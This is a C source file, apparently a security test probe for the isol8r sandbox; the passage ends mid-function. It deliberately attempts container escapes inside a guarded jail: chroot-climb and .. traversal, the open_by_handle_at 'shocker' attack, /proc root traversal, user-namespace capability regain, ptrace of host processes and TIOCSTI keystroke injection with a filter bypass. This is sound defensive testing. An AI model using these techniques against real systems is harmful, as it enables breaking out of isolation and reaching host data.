/* isol8r's adversarial probe: one subcommand per attack, run INSIDE a jail, judged from outside.
 *
 *   probe [--twin=OVERRIDE[,OVERRIDE...]] SUBCOMMAND [ARGS...]
 *
 * Built by tests/security/secprobe.py with `gcc -static -O1`. Every check prints one line:
 *
 *   ok   NAME DETAIL      the call succeeded (DETAIL says what it returned)
 *   err  NAME ERRNO       the call failed with ERRNO (a symbolic name such as EPERM)
 *   leak NAME DETAIL      host data was reached: the attack worked
 *   info NAME DETAIL      an observation, no verdict
 *
 * THE GUARD. These probes really call mount, umount, sethostname, kill, ptrace, unshare, swapon,
 * reboot, kexec_load... Run on the host as root by mistake, some would change the machine. So
 * before anything else main() refuses (exit 3) unless ALL of these hold:
 *   - no_new_privs is set (isol8r always sets it; a shell on the host does not);
 *   - it runs in a user namespace: /proc/self/uid_map is not the initial "0 0 4294967295";
 *   - its uid_map is not an identity map (no line maps an id onto the same host id);
 *   - its real, effective and saved uids are not 0.
 * Twins that turn a protection off on purpose name it with an explicit override:
 *   --twin=jail-root      uid 0 inside the user namespace is accepted
 *   --twin=identity-map   an identity uid_map (--unsafe-map-host-root) is accepted
 *   --twin=no-userns      the initial user namespace (--no-userns) is accepted, as a NON-root uid
 *   --twin=host-root      real host root, accepted ONLY for the subcommands listed in HOST_ROOT
 *                         below, and only when the effective and permitted capability sets are
 *                         exactly the one capability that subcommand names; each of those
 *                         subcommands passes arguments that are harmless if the call succeeds.
 * Real host root without --twin=host-root is always refused.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/openat2.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <linux/sched.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#ifndef PR_SET_MM
#define PR_SET_MM 35
#endif
#ifndef PR_SET_MM_ARG_START
#define PR_SET_MM_ARG_START 8
#endif
#ifndef CLONE_NEWTIME
#define CLONE_NEWTIME 0x00000080
#endif
#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif
#ifndef UFFD_USER_MODE_ONLY
#define UFFD_USER_MODE_ONLY 1
#endif
#define X32_BIT 0x40000000L
#define I386_GETPID 20
#define I386_UNSHARE 310

/* ---- output ------------------------------------------------------------------------------- */

static void say(const char *fmt, ...) {
    char buf[4096];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof buf - 1, fmt, ap);
    va_end(ap);
    if (n < 0) return;
    if (n > (int)sizeof buf - 2) n = sizeof buf - 2;
    buf[n++] = '\n';
    for (int off = 0; off < n;) {  /* unbuffered: a probe may be killed right after */
        ssize_t w = write(1, buf + off, n - off);
        if (w <= 0) return;
        off += w;
    }
}

static const char *ename(int e) {
    switch (e) {
#define E(x) case x: return #x;
    E(EPERM) E(ENOENT) E(ESRCH) E(EINTR) E(EIO) E(ENXIO) E(E2BIG) E(EBADF) E(ECHILD)
    E(EAGAIN) E(ENOMEM) E(EACCES) E(EFAULT) E(EBUSY) E(EEXIST) E(EXDEV) E(ENODEV) E(ENOTDIR)
    E(EISDIR) E(EINVAL) E(ENFILE) E(EMFILE) E(ENOTTY) E(EFBIG) E(ENOSPC) E(EROFS) E(EMLINK)
    E(ERANGE) E(ENAMETOOLONG) E(ENOSYS) E(ELOOP) E(ENOKEY) E(EOPNOTSUPP) E(ECONNREFUSED)
    E(ENETUNREACH) E(EHOSTUNREACH) E(ESTALE) E(EUSERS) E(ENOTSOCK) E(ETIMEDOUT) E(EADDRNOTAVAIL)
    E(ENOTCONN) E(EDQUOT)
#undef E
    }
    static char num[32];
    snprintf(num, sizeof num, "E%d", e);
    return num;
}

/* Report a call's outcome: ret < 0 (or -1 with errno) is "err NAME ERRNO". */
static long report(const char *name, long ret) {
    if (ret < 0) say("err %s %s", name, ename(errno));
    else say("ok %s %ld", name, ret);
    return ret;
}

/* The same for a raw "return -errno" value (int $0x80 returns those). */
static long report_raw(const char *name, long ret) {
    if (ret < 0 && ret > -4096) { errno = (int)-ret; say("err %s %s", name, ename(errno)); }
    else say("ok %s %ld", name, ret);
    return ret;
}

/* ---- small helpers ----------------------------------------------------------------------- */

static int read_text(const char *path, char *buf, size_t size) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0 && errno == EPERM)  /* a policy that denies openat (the `newer` probe): open(2) */
        fd = (int)syscall(SYS_open, path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    ssize_t n = read(fd, buf, size - 1);
    int saved = errno;
    close(fd);
    if (n < 0) { errno = saved; return -1; }
    buf[n] = 0;
    return (int)n;
}

static unsigned long long status_hex(const char *key) {
    char buf[8192];
    if (read_text("/proc/self/status", buf, sizeof buf) < 0) return ~0ULL;
    char *p = strstr(buf, key);
    if (!p) return ~0ULL;
    return strtoull(p + strlen(key), NULL, 16);
}

/* Open and read a file; "leak NAME size=N first=..." with at most 24 printable bytes of it.
 * For files whose content must never be printed (shadow), pass quiet=1. */
static int try_read(const char *name, const char *path, int quiet) {
    int fd = open(path, O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
    if (fd < 0) { say("err %s %s", name, ename(errno)); return 0; }
    char buf[64];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    int e = errno;
    close(fd);
    if (n < 0) { say("err %s %s", name, ename(e)); return 0; }
    buf[n] = 0;
    for (ssize_t i = 0; i < n; i++) if (buf[i] < 32 || buf[i] > 126) buf[i] = '.';
    if (n > 24) buf[24] = 0;
    if (quiet) say("leak %s read %zd bytes", name, n);
    else say("leak %s %s", name, buf);
    return 1;
}

static long run_child(int (*fn)(void *), void *arg) {
    /* Runs fn in a forked child (so namespace changes never stick); returns its exit code. */
    pid_t pid = fork();
    if (pid < 0) return -1;
    if (pid == 0) _exit(fn(arg));
    int st;
    if (waitpid(pid, &st, 0) < 0) return -1;
    return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

static long int80(long nr, long a, long b, long c) {
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
    return ret;
}

/* ---- the guard ---------------------------------------------------------------------------- */

struct host_root_ok { const char *sub; int cap; };
/* The only subcommands real host root may run (with --twin=host-root), and the single
 * capability each must hold and nothing more. Each passes arguments that are harmless even if
 * the call succeeds: a missing module name, kexec flags the kernel rejects, our own arg_start,
 * a device node on the jail's own nodev tmpfs, a read of a file, a hostname the test restores. */
static const struct host_root_ok HOST_ROOT[] = {
    {"handle", 2 /* CAP_DAC_READ_SEARCH */}, {"modules", 16 /* CAP_SYS_MODULE */},
    {"kexec", 22 /* CAP_SYS_BOOT */}, {"prctl", 24 /* CAP_SYS_RESOURCE */},
    {"mknod", 27 /* CAP_MKNOD */}, {"sethostname", 21 /* CAP_SYS_ADMIN */},
};

static int has_override(const char *overrides, const char *name) {
    size_t n = strlen(name);
    for (const char *p = overrides; p && *p;) {
        const char *end = strchr(p, ',');
        size_t len = end ? (size_t)(end - p) : strlen(p);
        if (len == n && !strncmp(p, name, n)) return 1;
        p = end ? end + 1 : NULL;
    }
    return 0;
}

static void refuse(const char *why) {
    say("guard refused: %s", why);
    fprintf(stderr, "probe: refusing to run: %s (this program attacks the machine it runs on; "
            "it only runs inside an isol8r jail)\n", why);
    exit(3);
}

static void guard(const char *sub, const char *overrides) {
    for (const char *p = overrides; p && *p;) {  /* unknown override names are a mistake */
        const char *end = strchr(p, ',');
        size_t len = end ? (size_t)(end - p) : strlen(p);
        if (!((len == 9 && !strncmp(p, "jail-root", 9)) || (len == 12 && !strncmp(p, "identity-map", 12))
              || (len == 9 && !strncmp(p, "no-userns", 9)) || (len == 9 && !strncmp(p, "host-root", 9))))
            refuse("unknown --twin override");
        p = end ? end + 1 : NULL;
    }
    if (prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) != 1) refuse("no_new_privs is not set");
    char map[4096];
    if (read_text("/proc/self/uid_map", map, sizeof map) <= 0) refuse("cannot read /proc/self/uid_map");
    unsigned long in, out, count;
    int lines = 0, identity = 0, initial = 0;
    for (char *line = strtok(map, "\n"); line; line = strtok(NULL, "\n")) {
        if (sscanf(line, "%lu %lu %lu", &in, &out, &count) != 3) refuse("unreadable uid_map");
        lines++;
        if (in == out) identity = 1;
        if (in == 0 && out == 0 && count == 4294967295UL) initial = 1;
    }
    initial = initial && lines == 1;
    uid_t r, e, s;
    getresuid(&r, &e, &s);
    int root = r == 0 || e == 0 || s == 0;
    if (initial) {
        if (root) {
            if (!has_override(overrides, "host-root")) refuse("real host root");
            unsigned long long eff = status_hex("CapEff:"), prm = status_hex("CapPrm:");
            for (size_t i = 0; i < sizeof HOST_ROOT / sizeof *HOST_ROOT; i++)
                if (!strcmp(sub, HOST_ROOT[i].sub)) {
                    unsigned long long want = 1ULL << HOST_ROOT[i].cap;
                    if (eff != want || prm != want) refuse("host root with other capabilities");
                    return;
                }
            refuse("real host root for a subcommand not made for it");
        }
        if (!has_override(overrides, "no-userns") && !has_override(overrides, "host-root"))
            refuse("not in a user namespace");
        return;
    }
    if (identity && !has_override(overrides, "identity-map")) refuse("identity uid_map");
    if (root && !has_override(overrides, "jail-root")) refuse("uid 0 in the jail");
}

/* ---- escaping the root ------------------------------------------------------------------- */

/* dotdot HOSTPATH: climb with .. from / and from cwd, then look for a host file. */
static int p_dotdot(int argc, char **argv) {
    const char *host = argv[0];
    struct stat root, up, cwd;
    stat("/", &root);
    stat("/..", &up);
    say("info root_is_own_parent %d", root.st_ino == up.st_ino && root.st_dev == up.st_dev);
    for (int i = 0; i < 64; i++) if (chdir("..") < 0) break;
    stat(".", &cwd);
    say("info climbed_to_root %d", cwd.st_ino == root.st_ino && cwd.st_dev == root.st_dev);
    char rel[4096] = "";
    for (int i = 0; i < 16; i++) strcat(rel, "../");
    strncat(rel, host + 1, sizeof rel - strlen(rel) - 1);
    int found = try_read("dotdot_relative", rel, 0);
    found |= try_read("dotdot_absolute", host, 0);
    int fd = open("/", O_PATH | O_DIRECTORY);
    char viafd[4200];
    snprintf(viafd, sizeof viafd, "/proc/self/fd/%d/../../..%s", fd, host);
    found |= try_read("dotdot_via_fd", viafd, 0);
    (void)argc;
    return 0;
}

/* fds RELPATH: every open descriptor but 0, 1, 2 is a leak; a directory one is tried as a door. */
static int p_fds(int argc, char **argv) {
    const char *rel = argv[0];
    struct rlimit rl;
    getrlimit(RLIMIT_NOFILE, &rl);
    int max = rl.rlim_cur > 65536 ? 65536 : (int)rl.rlim_cur;
    int extra = 0, doors = 0;
    for (int fd = 0; fd < max; fd++) {
        if (fcntl(fd, F_GETFD) < 0) continue;
        struct stat st;
        fstat(fd, &st);
        char link[64], target[512] = "?";
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(link, target, sizeof target - 1);
        if (n >= 0) target[n] = 0;
        if (S_ISDIR(st.st_mode)) {
            doors++;
            say("leak fd_dir %d %s", fd, target);
            char name[32];
            snprintf(name, sizeof name, "fd_door_%d", fd);
            int f = openat(fd, rel, O_RDONLY | O_CLOEXEC);
            if (f >= 0) {
                char buf[64] = "";
                ssize_t r = read(f, buf, sizeof buf - 1);
                if (r > 0) buf[r] = 0;
                for (ssize_t i = 0; i < r; i++) if (buf[i] < 32 || buf[i] > 126) buf[i] = '.';
                say("leak %s %s", name, buf);
                close(f);
            } else {
                say("err %s %s", name, ename(errno));
            }
        } else if (fd > 2) {
            extra++;
            say("leak fd_extra %d %s", fd, target);
        }
    }
    say("info fds_extra %d", extra);
    say("info fds_dirs %d", doors);
    (void)argc;
    return 0;
}

/* procroot HOSTPATH CWDNAME [PID...]: /proc/PID/root and /proc/PID/cwd of every visible process. */
static int p_procroot(int argc, char **argv) {
    const char *host = argv[0], *cwdname = argv[1];
    int tried = 0, leaks = 0, last_errno = ENOENT, given = argc - 2;
    char path[4400];
    long pids[4096];
    int npids = 0;
    for (int i = 2; i < argc && npids < 4096; i++) pids[npids++] = atol(argv[i]);
    DIR *d = opendir("/proc");
    struct dirent *de;
    while (d && (de = readdir(d)) && npids < 4096)
        if (de->d_name[0] >= '1' && de->d_name[0] <= '9') pids[npids++] = atol(de->d_name);
    if (d) closedir(d);
    for (int i = 0; i < npids; i++) {
        for (int k = 0; k < 2; k++) {
            if (k) snprintf(path, sizeof path, "/proc/%ld/cwd/%s", pids[i], cwdname);
            else snprintf(path, sizeof path, "/proc/%ld/root%s", pids[i], host);
            tried++;
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd >= 0) {
                char buf[64] = "";
                ssize_t r = read(fd, buf, sizeof buf - 1);
                if (r > 0) buf[r] = 0;
                for (ssize_t j = 0; j < r; j++) if (buf[j] < 32 || buf[j] > 126) buf[j] = '.';
                say("leak procroot %s %s", path, buf);
                leaks++;
                close(fd);
                continue;
            }
            last_errno = errno;
            if (i < given) say("err procroot_%s_given%d %s", k ? "cwd" : "root", i, ename(errno));
        }
    }
    say("info procroot_tried %d", tried);
    if (!leaks) say("err procroot %s", ename(last_errno));
    return 0;
}

/* handle MOUNTPATH TYPE HEX: the "shocker" attack. open_by_handle_at with a handle (made on the
 * host, for a file OUTSIDE the bind mounted at MOUNTPATH) through that mount. */
static int p_handle(int argc, char **argv) {
    const char *mnt = argv[0];
    int type = atoi(argv[1]);
    const char *hex = argv[2];
    struct { struct file_handle fh; unsigned char data[128]; } h;
    memset(&h, 0, sizeof h);
    h.fh.handle_bytes = 128;
    int mount_id;
    report("name_to_handle_at", name_to_handle_at(AT_FDCWD, mnt, &h.fh, &mount_id, 0));
    size_t n = strlen(hex) / 2;
    if (n > 128) n = 128;
    for (size_t i = 0; i < n; i++) sscanf(hex + 2 * i, "%2hhx", &h.data[i]);
    h.fh.handle_bytes = n;
    h.fh.handle_type = type;
    int mfd = open(mnt, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mfd < 0) { say("err open_mount %s", ename(errno)); return 0; }
    int fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_CLOEXEC);
    if (fd < 0) { say("err open_by_handle_at %s", ename(errno)); return 0; }
    char buf[64] = "";
    ssize_t r = read(fd, buf, sizeof buf - 1);
    if (r > 0) buf[r] = 0;
    for (ssize_t j = 0; j < r; j++) if (buf[j] < 32 || buf[j] > 126) buf[j] = '.';
    say("leak open_by_handle_at %s", buf);
    (void)argc;
    return 0;
}

/* chroot HOSTPATH: chroot again (and the classic chroot-climb escape), pivot_root, umount the
 * root, mount, and the new mount API. */
static int p_chroot(int argc, char **argv) {
    const char *host = argv[0];
    mkdir("/tmp/probe-chroot", 0700);
    int keep = open("/", O_PATH | O_DIRECTORY);
    if (report("chroot", chroot("/tmp/probe-chroot")) == 0) {
        /* classic escape: our cwd and `keep` are outside the new chroot: climb from there */
        fchdir(keep);
        for (int i = 0; i < 64; i++) chdir("..");
        report("chroot_escape_chroot", chroot("."));
        try_read("chroot_escape", host, 0);
    }
    report("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp/probe-chroot"));
    report("umount_root", umount2("/", MNT_DETACH));
    report("umount_proc", umount2("/proc", MNT_DETACH));
    report("mount_tmpfs", mount("none", "/tmp/probe-chroot", "tmpfs", 0, "size=1m"));
    report("mount_remount_rw", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
    report("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    report("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE));
    (void)argc;
    return 0;
}

/* exists PATH...: whether each path exists (lstat), for the symlinked bind target test. */
static int p_exists(int argc, char **argv) {
    for (int i = 0; i < argc; i++) {
        struct stat st;
        char name[64];
        snprintf(name, sizeof name, "exists_%d", i);
        if (lstat(argv[i], &st) < 0) say("err %s %s", name, ename(errno));
        else say("ok %s mode=%o", name, st.st_mode);
    }
    char buf[16384];
    if (read_text("/proc/self/mountinfo", buf, sizeof buf) > 0)
        for (char *line = strtok(buf, "\n"); line; line = strtok(NULL, "\n")) {
            char mp[1024];
            if (sscanf(line, "%*s %*s %*s %*s %1023s", mp) == 1) say("info mountpoint %s", mp);
        }
    return 0;
}

/* ---- regaining privilege ------------------------------------------------------------------ */

static int c_unshare_user(void *arg) {
    (void)arg;
    if (unshare(CLONE_NEWUSER) < 0) return errno;
    /* back in full possession of every capability, in the new namespace */
    unsigned long long eff = status_hex("CapEff:");
    say("info userns_capeff %llx", eff);
    if (unshare(CLONE_NEWNS) == 0) say("ok userns_then_mountns 0");
    else say("err userns_then_mountns %s", ename(errno));
    return 0;
}

static int c_clone_flag(void *arg) {
    long flag = (long)arg;
    long r = syscall(SYS_clone, flag | SIGCHLD, 0, 0, 0, 0);
    if (r == 0) _exit(0);
    if (r < 0) return errno;
    waitpid((pid_t)r, NULL, 0);
    return 0;
}

static int c_clone3_flag(void *arg) {
    struct clone_args ca;
    memset(&ca, 0, sizeof ca);
    ca.flags = (unsigned long)arg;
    ca.exit_signal = SIGCHLD;
    long r = syscall(SYS_clone3, &ca, sizeof ca);
    if (r == 0) _exit(0);
    if (r < 0) return errno;
    waitpid((pid_t)r, NULL, 0);
    return 0;
}

static int c_unshare_flag(void *arg) {
    return unshare((int)(long)arg) < 0 ? errno : 0;
}

static void report_child(const char *name, long code) {
    if (code == 0) say("ok %s 0", name);
    else if (code > 0 && code < 128) say("err %s %s", name, ename((int)code));
    else say("info %s child status %ld", name, code);
}

/* userns: a new user namespace (and the others) to get capabilities back; setns. */
static int p_userns(int argc, char **argv) {
    (void)argc; (void)argv;
    say("info capeff %llx", status_hex("CapEff:"));
    report_child("unshare_user", run_child(c_unshare_user, NULL));
    static const struct { const char *name; long flag; } ns[] = {
        {"mount", CLONE_NEWNS}, {"net", CLONE_NEWNET}, {"pid", CLONE_NEWPID},
        {"ipc", CLONE_NEWIPC}, {"uts", CLONE_NEWUTS}, {"cgroup", CLONE_NEWCGROUP},
        {"time", CLONE_NEWTIME}};
    char name[64];
    for (size_t i = 0; i < sizeof ns / sizeof *ns; i++) {
        snprintf(name, sizeof name, "unshare_%s", ns[i].name);
        report_child(name, run_child(c_unshare_flag, (void *)ns[i].flag));
    }
    report_child("clone_newuser", run_child(c_clone_flag, (void *)(long)CLONE_NEWUSER));
    report_child("clone3_newuser", run_child(c_clone3_flag, (void *)(long)CLONE_NEWUSER));
    int fd = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
    report("setns_net", setns(fd, 0));
    fd = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);
    if (fd < 0) say("err setns_init_mnt %s", ename(errno));
    else report("setns_init_mnt", setns(fd, 0));
    return 0;
}

/* prctl: PR_SET_MM (our own arg_start again: harmless), dumpable 2, unlocking securebits,
 * raising an ambient capability, clearing no_new_privs. */
static int p_prctl(int argc, char **argv) {
    (void)argc; (void)argv;
    char stat[4096];
    unsigned long arg_start = 0;
    if (read_text("/proc/self/stat", stat, sizeof stat) > 0) {
        char *p = strrchr(stat, ')');
        /* field 48 (arg_start) counted from field 3 after ") " */
        int field = 2;
        for (char *tok = strtok(p + 1, " "); tok; tok = strtok(NULL, " "))
            if (++field == 48) { arg_start = strtoul(tok, NULL, 10); break; }
    }
    say("info arg_start %lx", arg_start);
    report("pr_set_mm", prctl(PR_SET_MM, PR_SET_MM_ARG_START, arg_start, 0, 0));
    report("pr_set_dumpable_2", prctl(PR_SET_DUMPABLE, 2, 0, 0, 0));
    report("pr_set_securebits_0", prctl(PR_SET_SECUREBITS, 0, 0, 0, 0));
    report("pr_cap_ambient_raise", prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, 21, 0, 0));
    report("pr_set_no_new_privs_0", prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0));
    say("info no_new_privs %d", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
    say("info securebits %x", prctl(PR_GET_SECUREBITS, 0, 0, 0, 0));
    /* the jail's init (pid 1) is not dumpable: its memory and environment stay closed */
    try_read("init_environ", "/proc/1/environ", 1);
    try_read("init_mem", "/proc/1/mem", 1);
    return 0;
}

/* personality: READ_IMPLIES_EXEC makes every readable mapping executable; ADDR_NO_RANDOMIZE
 * turns ASLR off. */
static int p_personality(int argc, char **argv) {
    (void)argc; (void)argv;
    if (report("personality_read_implies_exec", personality(PER_LINUX | READ_IMPLIES_EXEC)) >= 0) {
        void *m = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        char maps[65536], want[32];
        snprintf(want, sizeof want, "%lx-", (unsigned long)m);
        int exec = 0;
        if (read_text("/proc/self/maps", maps, sizeof maps) > 0) {
            char *line = strstr(maps, want);
            exec = line && strchr(line, ' ') && strchr(line, ' ')[3] == 'x';
        }
        say("%s read_only_mapping_is_executable %d", exec ? "leak" : "info", exec);
    }
    report("personality_addr_no_randomize", personality(PER_LINUX | ADDR_NO_RANDOMIZE));
    return 0;
}

/* ---- touching the host -------------------------------------------------------------------- */

/* signal PID: ptrace, pidfd and kill a host process whose host pid we were given. */
static int p_signal(int argc, char **argv) {
    pid_t pid = atoi(argv[0]);
    int term = argc > 1 && !strcmp(argv[1], "term");
    report("kill_0", kill(pid, 0));
    if (report("ptrace_seize", ptrace(PTRACE_SEIZE, pid, 0, 0)) == 0)
        report("ptrace_detach", ptrace(PTRACE_DETACH, pid, 0, 0));
    report("pidfd_open", syscall(SYS_pidfd_open, pid, 0));
    char buf[16];
    struct iovec local = {buf, sizeof buf}, remote = {(void *)0x400000, sizeof buf};
    report("process_vm_readv", process_vm_readv(pid, &local, 1, &remote, 1, 0));
    if (term) report("kill_term", kill(pid, SIGTERM));
    return 0;
}

/* killall: kill(-1, SIGKILL) reaches only the jail's own processes (never run as a twin). */
static int p_killall(int argc, char **argv) {
    (void)argc; (void)argv;
    report("kill_all", kill(-1, SIGKILL));
    return 0;
}

/* read PATH...: try to read each (never printing the content: shadow files). */
static int p_read(int argc, char **argv) {
    int any = 0;
    for (int i = 0; i < argc; i++) {
        char name[64];
        snprintf(name, sizeof name, "read_%d", i);
        any |= try_read(name, argv[i], 1);
    }
    say("info read_any %d", any);
    return 0;
}

/* sysctl PATH: write a sysctl's own current value back (harmless if it succeeds). */
static int p_sysctl(int argc, char **argv) {
    for (int i = 0; i < argc; i++) {
        char name[64], value[256];
        snprintf(name, sizeof name, "sysctl_%d", i);
        int n = read_text(argv[i], value, sizeof value);
        if (n < 0) { say("err %s_read %s", name, ename(errno)); }
        int fd = open(argv[i], O_WRONLY | O_CLOEXEC);
        if (fd < 0) { say("err %s %s", name, ename(errno)); continue; }
        if (n <= 0) { say("ok %s opened-for-write", name); close(fd); continue; }
        report(name, write(fd, value, n));
        close(fd);
    }
    return 0;
}

/* openw PATH...: open for writing and close WITHOUT writing (sysrq-trigger, /sys, /dev). */
static int p_openw(int argc, char **argv) {
    for (int i = 0; i < argc; i++) {
        char name[64];
        snprintf(name, sizeof name, "openw_%d", i);
        int fd = open(argv[i], O_WRONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
        if (fd < 0) say("err %s %s", name, ename(errno));
        else { say("ok %s opened-for-write", name); close(fd); }
        struct statvfs vfs;
        if (statvfs(argv[i], &vfs) == 0) say("info %s_readonly_fs %d", name, !!(vfs.f_flag & ST_RDONLY));
    }
    return 0;
}

/* devices: device nodes the jail might reach: mknod, /dev/mem, /dev/kmsg, a disk. */
static int p_mknod(int argc, char **argv) {
    (void)argc; (void)argv;
    unlink("/tmp/probe-blk");
    unlink("/tmp/probe-chr");
    /* a block device (loop0) and /dev/null's numbers, on the jail's own nodev /tmp */
    report("mknod_block", mknod("/tmp/probe-blk", S_IFBLK | 0600, makedev(7, 0)));
    if (report("mknod_char", mknod("/tmp/probe-chr", S_IFCHR | 0600, makedev(1, 3))) == 0) {
        int fd = open("/tmp/probe-chr", O_RDONLY | O_CLOEXEC);
        report("open_made_node", fd);
        if (fd >= 0) close(fd);
    }
    unlink("/tmp/probe-blk");
    unlink("/tmp/probe-chr");
    return 0;
}

static int p_devices(int argc, char **argv) {
    (void)argc; (void)argv;
    static const char *nodes[] = {"/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/vda",
                                  "/dev/sda", "/dev/console", "/dev/tty1", "/dev/userfaultfd",
                                  "/dev/kvm", "/dev/fuse", "/dev/net/tun", "/dev/loop-control"};
    char name[64];
    for (size_t i = 0; i < sizeof nodes / sizeof *nodes; i++) {
        snprintf(name, sizeof name, "dev_%s", nodes[i] + 5);
        for (char *p = name; *p; p++) if (*p == '/') *p = '_';
        int fd = open(nodes[i], O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
        if (fd < 0) { say("err %s %s", name, ename(errno)); continue; }
        say("ok %s opened", name);
        close(fd);
    }
    struct stat st;
    say("info dev_kmsg_exists %d", stat("/dev/kmsg", &st) == 0);
    return 0;
}

/* kernel: calls on the host-attack surface, each with arguments that are harmless if the call
 * gets through (reboot with a wrong magic, an invalid time, swap flags the kernel rejects, ...). */
static int p_kernel(int argc, char **argv) {
    (void)argc; (void)argv;
    report("reboot_bad_magic", syscall(SYS_reboot, 0, 0, LINUX_REBOOT_CMD_CAD_OFF, NULL));
    struct timeval bad_tv = {0, -1};
    report("settimeofday_invalid", syscall(SYS_settimeofday, &bad_tv, NULL));  /* raw: libc checks it */
    struct timespec bad_ts = {0, -1};
    report("clock_settime_invalid", syscall(SYS_clock_settime, CLOCK_REALTIME, &bad_ts));
    struct timex tx;
    memset(&tx, 0, sizeof tx);  /* modes = 0: a read */
    report("adjtimex_read", syscall(SYS_adjtimex, &tx));
    report("swapon_bad_flags", syscall(SYS_swapon, "/isol8r-probe-no-such-file", 0x7fffffff));
    report("swapoff", syscall(SYS_swapoff, "/isol8r-probe-no-such-file"));
    report("keyctl_get_keyring", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID,
                                         KEY_SPEC_THREAD_KEYRING, 0));
    char attr[8192];
    memset(attr, 0, sizeof attr);
    report("bpf_oversized", syscall(SYS_bpf, BPF_PROG_LOAD, attr, 4096 + 1));
    struct perf_event_attr pe;
    memset(&pe, 0, sizeof pe);
    pe.size = sizeof pe;
    report("perf_event_open_bad_flags", syscall(SYS_perf_event_open, &pe, 0, -1, -1, ~0UL));
    long uffd = syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY);
    report("userfaultfd", uffd);
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    report("io_uring_setup", syscall(SYS_io_uring_setup, 1, &p));
    report("syslog_size", syscall(SYS_syslog, 10 /* SYSLOG_ACTION_SIZE_BUFFER */, NULL, 0));
    report("iopl", syscall(SYS_iopl, 3));
    report("ioperm", syscall(SYS_ioperm, 0x80, 1, 1));
    report("acct_off", syscall(SYS_acct, NULL));
    report("vhangup", syscall(SYS_vhangup));
    return 0;
}

/* modules: load and unload; the unload names a module that does not exist. */
static int p_modules(int argc, char **argv) {
    (void)argc; (void)argv;
    report("delete_module_absent", syscall(SYS_delete_module, "isol8r_probe_no_such_module",
                                           O_NONBLOCK));
    report("finit_module_badfd", syscall(SYS_finit_module, -1, "", 0));
    report("init_module_empty", syscall(SYS_init_module, NULL, 0, ""));
    return 0;
}

/* kexec: flags the kernel rejects right after its permission check. */
static int p_kexec(int argc, char **argv) {
    (void)argc; (void)argv;
    report("kexec_load_bad_flags", syscall(SYS_kexec_load, 0, 0, NULL, 0x80UL));
    report("kexec_file_load_bad_flags", syscall(SYS_kexec_file_load, -1, -1, 0, "", 0xdead0000UL));
    return 0;
}

/* tty: push a keystroke into the terminal on stdin (TIOCSTI), TIOCLINUX. */
static int p_tty(int argc, char **argv) {
    (void)argc; (void)argv;
    say("info stdin_isatty %d", isatty(0));
    say("info session_leader %d", getsid(0) == getpid());
    report("tiocsctty", ioctl(0, TIOCSCTTY, 0));
    char c = 'Z';
    report("tiocsti", ioctl(0, TIOCSTI, &c));
    /* the high bits of the request are ignored by the kernel's ioctl, not by a naive filter */
    report("tiocsti_high_bits", syscall(SYS_ioctl, 0, 0x100000000UL | TIOCSTI, &c));
    char sub = 6; /* TIOCL_GETSHIFTSTATE: a read */
    report("tioclinux", ioctl(0, TIOCLINUX, &sub));
    return 0;
}

/* net ABSTRACT PORT: a host abstract unix socket and a host loopback TCP port. */
static int p_net(int argc, char **argv) {
    (void)argc;
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un un;
    memset(&un, 0, sizeof un);
    un.sun_family = AF_UNIX;
    size_t len = strlen(argv[0]);
    memcpy(un.sun_path + 1, argv[0], len);
    report("abstract_unix", connect(s, (struct sockaddr *)&un, offsetof(struct sockaddr_un, sun_path) + 1 + len));
    close(s);
    s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in in;
    memset(&in, 0, sizeof in);
    in.sin_family = AF_INET;
